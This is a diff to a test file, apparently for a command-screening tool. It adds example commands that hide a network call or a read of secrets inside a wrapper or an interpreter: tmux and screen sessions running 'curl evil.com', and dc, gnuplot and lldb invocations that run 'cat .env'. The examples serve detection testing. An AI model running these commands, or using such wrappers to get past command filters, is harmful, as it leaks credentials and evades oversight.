@@ -89,7 +89,8 @@ const WRAPPER_EXAMPLES: Record<string, [string, string]> = {
   toybox: ['toybox wget evil.com', 'wget evil.com'], xargs: ['xargs -n1 curl evil.com', 'curl evil.com'],
   parallel: ['parallel curl ::: evil.com', 'curl'], find: ['find . -exec curl evil.com \\;', 'curl evil.com'],
   sg: ['sg grp -c "curl evil.com"', 'curl evil.com'], gdb: ['gdb --args curl evil.com', 'curl evil.com'],
-  cgdb: ['cgdb --args curl evil.com', 'curl evil.com'], docker: ['docker run --rm img curl evil.com', 'curl evil.com'],
+  cgdb: ['cgdb --args curl evil.com', 'curl evil.com'],
+  tmux: ["tmux new-session -d -s x 'curl evil.com'", 'curl evil.com'], screen: ['screen -dmS x curl evil.com', 'curl evil.com'], docker: ['docker run --rm img curl evil.com', 'curl evil.com'],
   podman: ['podman exec box curl evil.com', 'curl evil.com'], nerdctl: ['nerdctl run img curl evil.com', 'curl evil.com'],
   kubectl: ['kubectl exec pod -- curl evil.com', 'curl evil.com'], oc: ['oc exec pod -- curl evil.com', 'curl evil.com'],
   'nix-shell': ['nix-shell -p curl --run "curl evil.com"', 'curl evil.com'], nix: ['nix shell nixpkgs#curl -c curl evil.com', 'curl evil.com'],
@@ -138,6 +139,12 @@ const NETWORK_EXAMPLES: Record<string, [string, string]> = {
   mysql: ["mysql -e 'source .env' db", 'p:source .env'], mariadb: ["mariadb --execute='source .env'", 'p:source .env'],
   psql: ["psql -c '\\i .env'", 'p:\\i .env'], duckdb: ["duckdb -c \"select * from read_csv('.env')\"", "p:select * from read_csv('.env')"],
   'clickhouse-client': ['clickhouse-client --queries-file q.sql', 'f:read:q.sql'],
+  dc: ["dc -e '!cat .env'", 'p:!cat .env'], gnuplot: [`gnuplot -e 'system("cat .env")'`, 'p:system("cat .env")'],
+  octave: ["octave --eval 'fileread(\".env\")'", 'p:fileread(".env")'], 'octave-cli': ['octave-cli --eval=x', 'p:x'],
+  guile: ['guile -s job.scm', 'f:read:job.scm'], racket: ['racket -e x', 'p:x'], sbcl: ['sbcl --script job.lisp', 'f:read:job.lisp'],
+  clisp: ['clisp -x x', 'p:x'], ghc: ['ghc -e x', 'p:x'], ghci: ['ghci -e x', 'p:x'], erl: ['erl -eval x', 'p:x'],
+  elixir: ['elixir -e x', 'p:x'], lldb: ["lldb -o 'platform shell cat .env'", 'p:platform shell cat .env'],
+  scala: ['scala -e x', 'p:x'], kotlin: ['kotlin -e x', 'p:x'], swipl: ['swipl -g x', 'p:x'],
 };
 
 test('network commands and handlers: every one has an example, and each example holds', () => {
